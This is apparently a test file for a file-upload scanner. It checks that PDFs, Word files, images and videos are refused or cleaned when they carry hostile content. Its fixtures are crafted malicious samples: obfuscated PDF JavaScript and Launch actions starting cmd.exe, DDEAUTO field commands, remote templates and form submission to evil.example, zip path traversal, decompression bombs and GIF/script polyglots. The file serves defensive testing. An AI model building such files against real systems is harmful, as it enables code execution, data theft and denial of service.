import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import { deflateSync } from 'node:zlib';
import { PDFArray, PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
import * as files from '@lyceum/contract/files.calls';
import type { FilePurpose } from '@lyceum/domain/files';
import { languages } from '@lyceum/domain/language';
import sharp from 'sharp';
import { describe, expect, test, vi } from 'vitest';
import { asStaff } from '../../testing/as-staff.ts';
import { callOver } from '../../testing/call-over.ts';
import {
  aVideo,
  aBmpOfBits,
  aHugePng,
  aPdf,
  aPhoto,
  aZip,
  docxParts,
  relations,
  wordText,
} from '../../testing/sample-files.ts';
import { aServer } from '../../testing/test-server.ts';
import { checkBytes } from './check-bytes.ts';

const server = await aServer();
const member = await asStaff(server, { rights: [] });

/** Announces and sends a file; answers its id. */
async function bring(purpose: FilePurpose, bytes: Buffer, name = '履歷'): Promise<string> {
  const { fileId, upload } = await server.ask(files.begin, { purpose, name, size: bytes.length, type: '' }, member);
  const response = await fetch(new URL(upload.url, server.url), {
    method: 'PUT',
    headers: upload.headers,
    body: new Uint8Array(bytes),
  });
  expect(response.status).toBe(200);
  return fileId;
}

const finish = (fileId: string) => server.call(files.finish, { fileId }, member);

async function upload(purpose: FilePurpose, bytes: Buffer, name?: string) {
  return finish(await bring(purpose, bytes, name));
}

async function keysKept(): Promise<string[]> {
  const found: string[] = [];
  for (const folder of ['incoming', 'private', 'public']) {
    for await (const keys of server.deps.files.list(folder)) {
      found.push(...keys);
    }
  }
  return found;
}

const script = '<< /S /JavaScript /JS (app.alert(1)) >>';

/** A stream with this dictionary. */
const stream = (dictionary: string, content: Buffer | string): string => {
  const bytes = Buffer.from(content);
  return `<< ${dictionary} /Length ${bytes.length} >>\nstream\n${bytes.toString('latin1')}\nendstream`;
};

/** A stream that holds objects from number 20 on. */
function objectStream(objects: readonly string[], more = '', packed = true): string {
  let at = 0;
  const table = objects.map((object, index) => {
    const entry = `${20 + index} ${at} `;
    at += object.length + 1;
    return entry;
  });
  const first = table.join('');
  const content = Buffer.from(`${first}${objects.join(' ')} `);
  return stream(
    `/Type /ObjStm /N ${objects.length} /First ${first.length} ${packed ? '/Filter /FlateDecode' : ''} ${more}`,
    packed ? deflateSync(content) : content,
  );
}

/** A Word document with more parts, or others in the place of its own. */
const aDocx = (...parts: Parameters<typeof aZip>[0]): Buffer =>
  aZip([...docxParts.filter(({ name }) => parts.every((part) => part.name !== name)), ...parts]);

const withRelation = (type: string, target: string, outside = true): Buffer =>
  aDocx({ name: 'word/_rels/document.xml.rels', content: relations({ type, target, outside }) });

const withField = (...runs: string[]): Buffer =>
  aDocx({ name: 'word/document.xml', content: wordText(runs.map((run) => `<w:r>${run}</w:r>`).join('')) });

const anOle = (...names: string[]): Buffer =>
  Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.alloc(504),
    ...names.map((name) => Buffer.concat([Buffer.from(name, 'utf16le'), Buffer.alloc(64)])),
  ]);

const utf16 = (text: string): Buffer => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);

describe('a PDF is refused', () => {
  test.each<[what: string, bytes: Buffer, refusal: string]>([
    ['with a script in hidden letters', aPdf('/OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >>'), 'fileHasCode'],
    [
      'that starts a program in hidden letters',
      aPdf('/OpenAction 4 0 R', ['<< /S /L#61unch /F (cmd.exe) >>']),
      'fileHasCode',
    ],
    ['with a script in an object stream', aPdf('/OpenAction 20 0 R', [objectStream([script])]), 'fileHasCode'],
    [
      'with one in an object stream that is not packed',
      aPdf('', [objectStream(['1', script], '', false)]),
      'fileHasCode',
    ],
    [
      'with an object stream under another type',
      aPdf('', [objectStream([script]).replace('/ObjStm', '/Font')]),
      'fileHasCode',
    ],
    [
      'with an object stream that is packed twice',
      aPdf('', [objectStream([script]).replace('/FlateDecode', '[/ASCIIHexDecode /FlateDecode]')]),
      'fileUnsafe',
    ],
    [
      'with an object stream behind a predictor',
      aPdf('', [objectStream([script], '/DecodeParms << /Predictor 12 >>')]),
      'fileUnsafe',
    ],
    [
      'with an object stream that is a bomb',
      aPdf('', [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(80_000_000, 32)))]),
      'fileUnsafe',
    ],
    [
      'with a script that was replaced later',
      Buffer.concat([aPdf('', [script]), Buffer.from('4 0 obj\nnull\nendobj\n%%EOF\n')]),
      'fileHasCode',
    ],
    ['with an object in a comment', aPdf('', [], `%\u0020 9 0 obj ${script} endobj\n`), 'fileHasCode'],
    ['with an object in a text', aPdf('', [`(9 0 obj ${script} endobj)`]), 'fileHasCode'],
    ['with an object in a stream', aPdf('', [stream('', `\n9 0 obj\n${script}\nendobj\n`)]), 'fileHasCode'],
    [
      'with a comment in the head of an object',
      aPdf('', [], `9 % hidden\n0 % too\nobj ${script} endobj\n`),
      'fileHasCode',
    ],
    [
      'with an action in its trailer',
      Buffer.from(aPdf().toString('latin1').replace('/Root', `/Info ${script} /Root`), 'latin1'),
      'fileHasCode',
    ],
    ['that sends a form', aPdf('', ['<< /S /SubmitForm /F (http://evil.example/) >>']), 'fileHasCode'],
    ['with a form of XFA', aPdf('/AcroForm << /XFA 4 0 R >>', [stream('', '<xdp/>')]), 'fileHasCode'],
    [
      'with an action of a page',
      aPdf('', ['<< /Type /Page /AA << /O 5 0 R >> >>', '<< /S /URI /URI (http://evil.example) >>']),
      'fileHasCode',
    ],
    ['with a link that is a script', aPdf('', ['<< /S /URI /URI (java\\163cript:alert\\(1\\)) >>']), 'fileHasCode'],
    [
      'that opens an address by itself',
      aPdf('/OpenAction 4 0 R', ['<< /S /URI /URI (http://evil.example) >>']),
      'fileLoadsRemote',
    ],
    [
      'that opens a file of another machine',
      aPdf('', ['<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) >>']),
      'fileLoadsRemote',
    ],
    ['that names a share', aPdf('', ['<< /S /GoToR /F << /F (//evil/share/a.pdf) >> >>']), 'fileLoadsRemote'],
    [
      'with content that lies elsewhere',
      aPdf('', [stream('/F << /FS /URL /F (http://evil.example) >>', '')]),
      'fileLoadsRemote',
    ],
    [
      'with another file inside',
      aPdf('/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>', [
        '<< /F (a.exe) /EF << /F 5 0 R >> >>',
        stream('', 'MZ'),
      ]),
      'fileHasAttachment',
    ],
    [
      'with an attachment without a type',
      aPdf('', ['<< /F (a.exe) /E#46 << /F 5 0 R >> >>', stream('', 'MZ')]),
      'fileHasAttachment',
    ],
    [
      'that is encrypted',
      Buffer.from(
        aPdf('', ['<< /Filter /Standard /V 2 >>']).toString('latin1').replace('/Root', '/Encrypt 4 0 R /Root'),
        'latin1',
      ),
      'fileEncrypted',
    ],
    ['that nobody can read', aPdf('', ['<< /A [ 1 2 >>']), 'fileDamaged'],
    ['that is nested without end', aPdf('', ['['.repeat(200_000)]), 'fileDamaged'],
    ['without pages', Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n'), 'fileDamaged'],
    [
      'that is a page of a browser, too',
      Buffer.concat([aPdf(), Buffer.from('<script>alert(1)</script>')]),
      'fileDamaged',
    ],
    ['that is an archive, too', Buffer.concat([aPdf(), aZip(docxParts)]), 'fileDamaged'],
  ])('%s', async (_what, bytes, refusal) => {
    expect((await upload('paper', bytes)).data).toMatchObject({ refusal });
    expect(await keysKept()).toEqual([]);
  });

  test('in words of three languages that say what to do', async () => {
    const fileId = await bring('paper', aPdf(`/OpenAction ${script}`));
    const sentences = await Promise.all(
      languages.map(
        async (language) => (await callOver(server.url, files.finish, { fileId }, { ...member, language })).message,
      ),
    );
    expect(sentences.join('\n')).toMatch(/巨集[^]*宏[^]*macro|宏[^]*巨集[^]*macro|macro[^]*/);
    expect(new Set(sentences).size).toBe(3);
    for (const sentence of sentences) {
      expect(sentence).toContain('PDF');
    }
  });
});

describe('a Word document is refused', () => {
  const remote = 'http://evil.example/a.dotm';
  test.each<[what: string, bytes: Buffer, refusal: string]>([
    [
      'with a template from elsewhere',
      aDocx({
        name: 'word/_rels/settings.xml.rels',
        content: relations({ type: 'attachedTemplate', target: remote, outside: true }),
      }),
      'fileLoadsRemote',
    ],
    [
      'with one whose place is spelled in numbers',
      withRelation('attachedTemplate', '&#104;ttp://evil.example/a.dotm', false),
      'fileLoadsRemote',
    ],
    [
      'with one in UTF-16',
      aDocx({
        name: 'word/_rels/settings.xml.rels',
        content: utf16(
          relations({ type: 'attachedTemplate', target: remote, outside: true }).replace('UTF-8', 'UTF-16'),
        ),
      }),
      'fileLoadsRemote',
    ],
    ['with a picture from elsewhere', withRelation('image', 'http://evil.example/pixel.png'), 'fileLoadsRemote'],
    ['with a link to a share', withRelation('hyperlink', '\\\\evil\\share'), 'fileLoadsRemote'],
    ['with an OLE object', withRelation('oleObject', 'a.dat', false), 'fileHasAttachment'],
    ['with an embedded file', aDocx({ name: 'word/embeddings/a.xlsx', content: 'x' }), 'fileHasAttachment'],
    ['with a page inside', withRelation('aFChunk', 'chunk.dat', false), 'fileHasAttachment'],
    [
      'with a program under the name of a picture',
      aDocx({ name: 'word/media/a.png', content: 'MZ\u0090' }),
      'fileHasAttachment',
    ],
    ['with macros', aDocx({ name: 'word/vbaProject.bin' }), 'fileHasCode'],
    ['with macros under another name', withRelation('vbaProject', 'x.dat', false), 'fileHasCode'],
    ['with a control', aDocx({ name: 'word/activeX/activeX1.xml' }), 'fileHasCode'],
    [
      'with a command in a field',
      withField(
        '<w:fldChar w:fldCharType="begin"/>',
        '<w:instrText> DD</w:instrText>',
        '<w:instrText>EAUTO c:\\\\cmd.exe</w:instrText>',
        '<w:fldChar w:fldCharType="end"/>',
      ),
      'fileHasCode',
    ],
    [
      'with a field that fetches',
      aDocx({
        name: 'word/document.xml',
        content: wordText('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/a.png&quot;"/>'),
      }),
      'fileLoadsRemote',
    ],
    [
      'with a document type',
      aDocx({ name: 'word/document.xml', content: '<!DOCTYPE x [<!ENTITY a "a">]><x>&a;</x>' }),
      'fileUnsafe',
    ],
    ['with a part that leads out of its folder', aDocx({ name: '../../evil.xml' }), 'fileUnsafe'],
    ['with two parts of one name', aZip([...docxParts, { name: 'WORD/document.xml' }]), 'fileUnsafe'],
    ['with a part of two names', aDocx({ name: 'word/a.xml', innerName: 'word/b.xml' }), 'fileUnsafe'],
    [
      'with a part larger than it claims',
      aDocx({ name: 'word/a.xml', content: `<x>${'a'.repeat(5_000)}</x>`, claims: 10 }),
      'fileUnsafe',
    ],
    ['with a part smaller than it claims', aDocx({ name: 'word/a.xml', claims: 900_000 }), 'fileUnsafe'],
    ['that is a bomb', aDocx({ name: 'word/media/a.png', content: Buffer.alloc(50_000_000) }), 'fileUnsafe'],
    ['with a password', aDocx({ name: 'word/a.xml', encrypted: true }), 'fileEncrypted'],
    ['with a password, as Word keeps it', anOle('EncryptionInfo', 'EncryptedPackage'), 'fileEncrypted'],
    [
      'that is a sheet',
      aDocx({
        name: '[Content_Types].xml',
        content: (docxParts[0]?.content ?? '').toString().replace('wordprocessingml.document', 'spreadsheetml.sheet'),
      }),
      'fileTypeRefused',
    ],
    ['of old Word with macros', anOle('WordDocument', 'Macros'), 'fileHasCode'],
    ['of old Word with an object', anOle('WordDocument', 'ObjectPool'), 'fileHasAttachment'],
    [
      'of old Word with a command in a field',
      Buffer.concat([anOle('WordDocument'), Buffer.from('\u0013 DDEAUTO c:\\cmd.exe')]),
      'fileLoadsRemote',
    ],
  ])('%s', async (_what, bytes, refusal) => {
    expect((await upload('resume', bytes)).data).toMatchObject({ refusal });
    expect(await keysKept()).toEqual([]);
  });
});

describe('an honest file is taken', () => {
  async function anHonestPdf(useObjectStreams: boolean): Promise<Buffer> {
    const document = await PDFDocument.create();
    const page = document.addPage();
    page.drawText('Invoice, see https://example.org/JavaScript', {
      font: await document.embedFont(StandardFonts.Helvetica),
    });
    page.drawImage(
      await document.embedPng(
        await sharp({ create: { width: 60, height: 60, channels: 4, background: '#369' } })
          .png()
          .toBuffer(),
      ),
    );
    const link = document.context.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [0, 0, 100, 20],
      A: { Type: 'Action', S: 'URI', URI: PDFString.of('https://example.org/JavaScript/Launch') },
    });
    page.node.set(PDFName.of('Annots'), document.context.obj([document.context.register(link)]));
    const field = document.getForm().createTextField('name');
    field.addToPage(page);
    page.node.set(PDFName.of('Next'), document.context.obj({ S: 'GoToR', F: PDFString.of('volume-2.pdf') }));
    const start = PDFArray.withContext(document.context);
    start.push(page.ref);
    start.push(PDFName.of('Fit'));
    document.catalog.set(PDFName.of('OpenAction'), document.context.obj({ S: 'GoTo', D: start }));
    return Buffer.from(await document.save({ useObjectStreams }));
  }

  test('a PDF with links, fonts, pictures and a form', async () => {
    for (const useObjectStreams of [true, false]) {
      const bytes = await anHonestPdf(useObjectStreams);
      expect(bytes.includes('/ObjStm')).toBe(useObjectStreams);
      expect((await upload('paper', bytes)).data).toMatchObject({ state: 'ready', size: bytes.length });
    }
  });

  test('a Word document with pictures and links, and one of old Word', async () => {
    const picture = await sharp({ create: { width: 60, height: 60, channels: 3, background: '#369' } })
      .png()
      .toBuffer();
    const bytes = aDocx(
      { name: 'word/media/image1.png', content: picture },
      {
        name: 'word/_rels/document.xml.rels',
        content: relations(
          { type: 'image', target: 'media/image1.png' },
          { type: 'hyperlink', target: 'https://example.org/?dde', outside: true },
          { type: 'hyperlink', target: 'mailto:a@example.org', outside: true },
        ),
      },
      {
        name: 'word/document.xml',
        content: wordText(
          '<w:r><w:instrText> HYPERLINK "https://example.org/DDE" </w:instrText></w:r><w:r><w:t>DDEAUTO</w:t></w:r>',
        ),
      },
    );
    expect((await upload('resume', bytes)).data).toMatchObject({ state: 'ready', size: bytes.length });
    expect((await upload('resume', anOle('WordDocument', '1Table'))).data).toMatchObject({ state: 'ready' });
  });
});

describe('pictures', () => {
  test('lose where they were taken and what was hidden behind them', async () => {
    const photo = Buffer.concat([await aPhoto(200, 100), Buffer.from('<script>alert(1)</script>')]);
    const { data } = await upload('paper', photo);
    expect(data).toMatchObject({ state: 'ready' });
    const { url } = await server.ask(files.address, { fileId: data.fileId }, member);
    const opened = await fetch(server.url + url);
    const kept = Buffer.from(await opened.arrayBuffer());
    expect(kept.includes('<script>')).toBe(false);
    const { exif, xmp, iptc } = await sharp(kept).metadata();
    expect([exif, xmp, iptc]).toEqual([undefined, undefined, undefined]);
    expect(opened.headers.get('content-disposition')).toMatch(/^attachment/);
    expect(opened.headers.get('x-content-type-options')).toBe('nosniff');
  });

  test('a GIF that is a script, too, is drawn anew as one still picture', async () => {
    const frames = await sharp(Buffer.alloc(40 * 400 * 3, 90), {
      raw: { width: 40, height: 400, channels: 3, pageHeight: 40 },
    })
      .gif()
      .toBuffer();
    const polyglot = Buffer.concat([frames, Buffer.from('*/=1;alert(1)//')]);
    const { data } = await upload('resume', polyglot, 'a.js');
    expect(data).toMatchObject({ state: 'ready', width: 40, height: 40 });
    const { url } = await server.ask(files.address, { fileId: data.fileId }, member);
    const opened = await fetch(server.url + url);
    expect(opened.headers.get('content-type')).toBe('image/png');
    expect(opened.headers.get('content-disposition')).toContain('filename="a.png"');
    expect(Buffer.from(await opened.arrayBuffer()).includes('alert')).toBe(false);
    for (const start of ['GIF89a<svg xmlns="http://www.w3.org/2000/svg"/>', 'GIF89a=1;alert(1)//']) {
      expect((await upload('resume', Buffer.from(start))).data).toMatchObject({ refusal: 'fileDamaged' });
    }
  });

  test('public ones are never sniffed', async () => {
    const { data } = await upload('picture', await aPhoto(200, 100));
    const { headers } = await fetch(server.url + data.path);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('content-type')).toMatch(/^image\/(?:webp|jpeg|avif)$/);
  });

  test('the largest are looked at while the server goes on answering', async () => {
    // Starts the process, which is not what is measured.
    await upload('picture', await aPhoto(60, 40));
    const noise = randomBytes(9_000_000);
    const large: [what: string, purpose: FilePurpose, bytes: Buffer][] = [
      ['BMP of 40 million pixels', 'picture', aBmpOfBits(6_320, 6_320)],
      ['PNG of 40 million pixels', 'picture', aHugePng(6_320)],
      ['JPG of 36 million pixels', 'picture', await aPhoto(6_000, 6_000)],
      ['PDF of 9 MB', 'paper', aPdf('', [stream('', noise)])],
      [
        'Word document of 18 MB',
        'resume',
        aDocx({ name: 'a.jpeg', content: noise }, { name: 'b.jpeg', content: noise }),
      ],
    ];
    for (const [what, purpose, bytes] of large) {
      const fileId = await bring(purpose, bytes);
      const delay = monitorEventLoopDelay({ resolution: 5 });
      delay.enable();
      const answer = await finish(fileId);
      delay.disable();
      expect([what, answer.data]).toMatchObject([what, { state: 'ready' }]);
      // Decoded in the server's own process, the first held it up for more than a second.
      expect(delay.max / 1e6).toBeLessThan(500);
    }
  }, 120_000);
});

test('a video is kept as it was looked at, whatever is sent to its address meanwhile', async () => {
  const video = aVideo();
  const { fileId, upload } = await server.ask(
    files.begin,
    { purpose: 'video', name: 'a', size: video.length, type: '' },
    member,
  );
  const put = (bytes: Buffer) =>
    fetch(new URL(upload.url, server.url), { method: 'PUT', headers: upload.headers, body: new Uint8Array(bytes) });
  await put(video);
  const store = server.deps.files;
  const looking = vi.spyOn(store, 'open').mockImplementation(async (...args) => {
    looking.mockRestore();
    await put(Buffer.alloc(video.length, '<script>'));
    return store.open(...args);
  });
  expect((await finish(fileId)).data).toMatchObject({ state: 'ready' });
  expect(await store.read(`private/${fileId}`)).toEqual(video);
});

describe('what takes too much', () => {
  test('memory: the process is ended, the file refused, and the next one taken', async () => {
    const lists = '[]'.repeat(5_000_000);
    const { data } = await upload('resume', aPdf('', [`[${lists}]`]));
    expect(data).toMatchObject({ refusal: 'fileTooComplex' });
    expect((await fetch(`${server.url}/healthz`)).status).toBe(200);
    expect((await upload('paper', aPdf())).data).toMatchObject({ state: 'ready' });
  }, 120_000);

  // Each of these streams is looked for to the end of the file.
  const endless = aPdf('', ['<< >> stream\n'.padEnd(20, ' '), ...Array.from({ length: 60_000 }, () => '<<>>stream')]);

  test('time: likewise', async () => {
    const begun = performance.now();
    expect(await checkBytes(endless, 'paper', 1_500)).toEqual({ refusal: 'fileTooComplex' });
    expect(performance.now() - begun).toBeLessThan(20_000);
    expect(await checkBytes(aPdf(), 'paper')).toMatchObject({ kind: 'pdf' });
  }, 60_000);

  test('and dying of it in the moment in which its time is over: likewise, and one that waits has its turn', async () => {
    const looking = checkBytes(endless, 'paper', 1_500);
    const waiting = checkBytes(aPdf(), 'paper');
    expect(await looking).toEqual({ refusal: 'fileTooComplex' });
    // The pool ends it a tenth of a second after its time, and would wait for one that is dead by then.
    for (const pid of checkers()) {
      process.kill(pid, 'SIGKILL');
    }
    expect(await waiting).toMatchObject({ kind: 'pdf' });
    expect(await checkBytes(aPdf(), 'paper')).toMatchObject({ kind: 'pdf' });
  }, 60_000);
});

/** Processes that this one started to look at files. */
function checkers(): number[] {
  const read = (path: string): string => {
    try {
      return readFileSync(path, 'utf8');
    } catch {
      return '';
    }
  };
  return readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name) && read(`/proc/${name}/cmdline`).includes('check-bytes.worker'))
    .map(Number)
    .filter((pid) => Number(/\) \S (\d+)/.exec(read(`/proc/${pid}/stat`))?.[1]) === process.pid);
}
